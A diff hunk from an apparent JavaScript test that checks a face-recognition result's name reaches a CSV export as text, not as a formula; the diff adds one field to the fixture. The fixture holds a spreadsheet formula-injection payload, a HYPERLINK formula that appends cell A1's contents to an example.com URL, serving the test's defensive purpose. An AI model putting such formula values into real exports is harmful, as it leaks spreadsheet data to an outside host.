@@ -8,6 +8,7 @@ test('a name from somebody else reaches a spreadsheet as text, not as a formula'
     name: '=HYPERLINK("http://example.com/?"&A1,"Ada")',
     trust: 71.5,
     unique_args: null,
+    also: false,
     position: { top: 1, left: 2, bottom: 3, right: 4 },
   };
   expect(resultLines({ file: '-a,b.jpg', at: 1.5, faces: [face] }, 'csv')).toEqual([
